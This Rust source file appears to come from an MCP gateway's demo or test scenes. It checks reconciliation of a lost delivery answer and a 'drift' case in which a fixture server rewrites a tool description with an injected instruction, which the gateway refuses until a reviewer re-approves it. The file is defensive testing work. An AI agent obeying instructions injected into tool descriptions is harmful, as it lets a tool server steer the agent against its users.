/// The serve configuration of a delivery host in `state/NAME`: the bundled delivery
/// fixture (with `server_args`) as connection `outbox`, the example policy, requester
/// `demo-operator` (role operator), profile `publisher`. Returns it with the outbox folder
/// and the server's call log.
fn delivery_config(
    state: &std::path::Path,
    name: &str,
    server_args: &[&str],
) -> Result<(ServeConfig, std::path::PathBuf, std::path::PathBuf)> {
    let exe = std::env::current_exe().context("locating the airlock executable")?;
    let dir = state.join(name);
    std::fs::create_dir_all(&dir)?;
    let outbox = dir.join("outbox");
    let log = dir.join("outbox-calls.jsonl");
    // Both exist before the server starts: they are its grants.
    std::fs::create_dir_all(&outbox)?;
    std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(&log)?;
    let policy = dir.join("airlock.cedar");
    std::fs::write(&policy, EXAMPLE_POLICY)?;
    let mut args = vec![
        "fixture".to_string(),
        "delivery-server".into(),
        "--outbox".into(),
        outbox.display().to_string(),
        "--call-log".into(),
        log.display().to_string(),
    ];
    args.extend(server_args.iter().map(|a| a.to_string()));
    // Confined: it may write its outbox and its call log, nothing else.
    let config = ServeConfig {
        policy_files: vec![policy],
        ..publisher_config(&dir, "outbox", exe, args, &[&outbox, &log])
    };
    Ok((config, outbox, log))
}

/// Prepares an artifact titled `title` on `front` and asks to deliver it to the team
/// reports outbox: returns the delivery's arguments and the approval request it named.
async fn ask_to_deliver(front: &crate::front::McpFront, title: &str) -> Result<(Value, String)> {
    let prepared = front_call(
        front,
        "prepare_artifact",
        json!({"title": title, "media-type": "text/markdown", "content": format!("# {title}\n")}),
    )
    .await?;
    let artifact = prepared.structured_content.clone().unwrap_or_default()["result"]["artifact"]
        .as_str()
        .unwrap_or("")
        .to_string();
    let destinations = front_call(front, "list_destinations", json!({})).await?;
    let team = destinations.structured_content.clone().unwrap_or_default()["result"]
        .as_array()
        .and_then(|a| a.iter().find(|d| d["label"] == "Team reports outbox"))
        .and_then(|d| d["destination"].as_str())
        .map(str::to_string)
        .context("no team reports destination")?;
    let args = json!({"artifact": artifact, "destination": team});
    let asked = front_call(front, "deliver_artifact", args.clone()).await?;
    let text = result_text(&asked);
    let id = text
        .find("apr_")
        .map(|at| text[at..at + 28].to_string())
        .context("no approval request named")?;
    Ok((args, id))
}

/// A delivery whose answer is lost: the delivery server delivers, then exits before
/// answering. The host records the outcome as unknown, restarts the connection, asks the
/// contract's query with the intent's idempotency key, and reports what it found; nothing
/// is sent twice.
async fn lost_answer_scene<W: std::io::Write>(
    p: &mut Printer<W>,
    state: &std::path::Path,
) -> Result<()> {
    let (config, outbox, log) = delivery_config(state, "lost-answer", &["--fail-after-send"])?;
    let count = |tool: &str| requests(&log, tool);
    let (host, front) = delivery_host(&config).await?;
    let call = |name: &'static str, args: Value| front_call(&front, name, args);
    p.line("the delivery server now runs with --fail-after-send: it delivers, then exits before answering")?;
    let (args, id) = ask_to_deliver(&front, "Q4 plan").await?;
    crate::cli::approvals::decide(
        host.registry(),
        &id,
        crate::store::ApprovalDecision::Approve,
        "demo-approver",
        None,
        host.config().approvals.ttl,
    )?;
    p.line(format!("approved {id}; deliver_artifact again:"))?;
    let done = call("deliver_artifact", args).await?;
    if done.is_error == Some(true) {
        bail!("the lost answer was not reconciled: {}", result_text(&done));
    }
    for line in result_text(&done).lines().take(2) {
        p.line(format!("  {line}"))?;
    }
    let intents = host
        .registry()
        .store()
        .intents(&crate::store::IntentFilter {
            compensates: None,
            limit: 10,
            ..Default::default()
        })?;
    let intent = intents
        .iter()
        .find(|i| i.intent.capability == "deliver_artifact")
        .context("no delivery intent")?;
    let attempts = host.registry().store().attempts(&intent.intent.id)?;
    let attempt = attempts.first().context("no attempt")?;
    p.line(format!(
        "intent {}: attempt 1 {} ({} sent, {} answered), outcome unknown → {} by {} ({})",
        intent.intent.id,
        attempt.state,
        attempt.requests,
        attempt.answered,
        intent.state.as_str(),
        intent
            .resolution
            .as_ref()
            .map_or("?", |r| r["by"].as_str().unwrap_or("?")),
        intent
            .resolution
            .as_ref()
            .map_or("?", |r| r["method"].as_str().unwrap_or("?")),
    ))?;
    let files = std::fs::read_dir(outbox.join("team-reports"))
        .map(|d| d.count())
        .unwrap_or(0);
    if count("send_file") != 1 || files != 1 {
        bail!(
            "expected one delivery, got {} sends and {files} files",
            count("send_file")
        );
    }
    p.line(format!(
        "send_file requests: {}, lookup_delivery requests: {}, files in the outbox: {files} — reconciled, not repeated",
        count("send_file"),
        count("lookup_delivery")
    ))?;
    Ok(())
}

/// A second host on its own connection, whose notes server rewrites `read_note`'s
/// description (with an injected instruction) after its first call and announces it with
/// `notifications/tools/list_changed`.
async fn drift_scene<W: std::io::Write>(p: &mut Printer<W>, state: &std::path::Path) -> Result<()> {
    let exe = std::env::current_exe().context("locating the airlock executable")?;
    let mut config = notes_config(exe);
    config.cache_dir = crate::config::default_cache_dir();
    config.state_dir = Some(state.join("drift"));
    let call_log = state.join("drift-calls.jsonl");
    if let Some(server) = config
        .connections
        .get_mut("notes")
        .and_then(|s| s.as_stdio_mut())
    {
        server.args.extend([
            "--drift-on-call".to_string(),
            "description".to_string(),
            "--call-log".to_string(),
            call_log.display().to_string(),
        ]);
        // Confined: the call log is the one file it may write.
        std::fs::write(&call_log, "")?;
        if let Some(confine) = server.confine.as_mut() {
            confine.paths.push(crate::upstream::confine::PathGrant {
                path: call_log.clone(),
                access: crate::upstream::confine::Access::ReadWrite,
            });
        }
    }
    let tool_calls = || {
        std::fs::read_to_string(&call_log)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.contains("\"tools/call\""))
            .count()
    };
    let host = Host::start_with(&config, vec![embedded_mapping()?]).await?;
    approve_all(&host, "demo-reviewer").await?;
    let gateway = host.front(None)?;
    gateway.list();
    let mapping = host
        .catalog()
        .mappings
        .get("source-library")
        .context("the bundled mapping did not load")?
        .clone();
    let args = |v: Value| match v {
        Value::Object(o) => Some(o),
        _ => None,
    };
    let hits = gateway
        .call("search_sources", args(json!({"query": "checkpoint"})))
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    if hits.is_error == Some(true) {
        bail!("the first call failed: {}", result_text(&hits));
    }
    let reference = first_reference(&hits)?;
    p.line("search_sources: ok (the server answered, then changed read_note and sent tools/list_changed)")?;
    let sent = tool_calls();
    let refused = gateway
        .call("retrieve_source", args(json!({"reference": reference})))
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    if refused.is_error != Some(true) {
        bail!("a call on a drifted tool was not refused");
    }
    p.line(format!("retrieve_source: {}", result_text(&refused)))?;
    let record = mapping.record();
    p.line(format!(
        "mapping `{}` is now {}: {}",
        record.name, record.state, record.reason
    ))?;
    let reached = tool_calls() - sent;
    if reached != 0 {
        bail!("the refused call reached the server");
    }
    p.line(format!(
        "tools/call requests the server received for the refused call: {reached} (the re-check only re-read its catalogue)"
    ))?;
    p.line(format!(
        "offered now: {} capabilities; a reviewer must approve the new description first",
        host.catalog().offered().count()
    ))?;
    Ok(())
}

async fn list_names<W: std::io::Write>(
    peer: &Peer<RoleClient>,
    p: &mut Printer<W>,
) -> Result<Vec<String>> {
    let tools = peer.list_all_tools().await?;
    let mut names = Vec::new();
    for t in &tools {
        let schema = Value::Object((*t.input_schema).clone());
        let props: Vec<String> = schema["properties"]
            .as_object()
            .map(|o| o.keys().cloned().collect())
            .unwrap_or_default();
        p.line(format!(
            "{}({}) - {}",
            t.name,
            props.join(", "),
            t.description.as_deref().unwrap_or("")
        ))?;
        names.push(t.name.to_string());
    }
    Ok(names)
}

async fn call_raw(peer: &Peer<RoleClient>, name: &str, args: Value) -> Result<CallToolResult> {
    let mut params = CallToolRequestParams::new(name.to_string());
    params.arguments = Some(match args {
        Value::Object(o) => o,
        _ => JsonObject::new(),
    });
    Ok(peer.call_tool(params).await?)
}

async fn call(peer: &Peer<RoleClient>, name: &str, args: Value) -> Result<CallToolResult> {
    let result = call_raw(peer, name, args).await?;
    if result.is_error == Some(true) {
        bail!("{name} failed: {}", result_text(&result));
    }
    Ok(result)
}

fn result_text(result: &CallToolResult) -> String {
    result
        .content
        .iter()
        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
        .collect::<Vec<_>>()
        .join("\n")
}

fn first_reference(result: &CallToolResult) -> Result<String> {
    result
        .structured_content
        .as_ref()
        .and_then(|s| s["result"][0]["reference"].as_str())
        .map(str::to_string)
        .context("the search returned no hits")
}

fn print_result<W: std::io::Write>(
    p: &mut Printer<W>,
    result: &CallToolResult,
    max_lines: usize,
) -> Result<()> {
    let text = result_text(result);
    let lines: Vec<&str> = text.lines().collect();
    for l in lines.iter().take(max_lines) {
        p.line(*l)?;
    }
    if lines.len() > max_lines {
        p.line(format!("... ({} more lines)", lines.len() - max_lines))?;
        if let Some(end) = lines
            .iter()
            .rev()
            .find(|l| l.contains("END UNTRUSTED DATA"))
        {
            p.line(*end)?;
        }
    }
    Ok(())
}
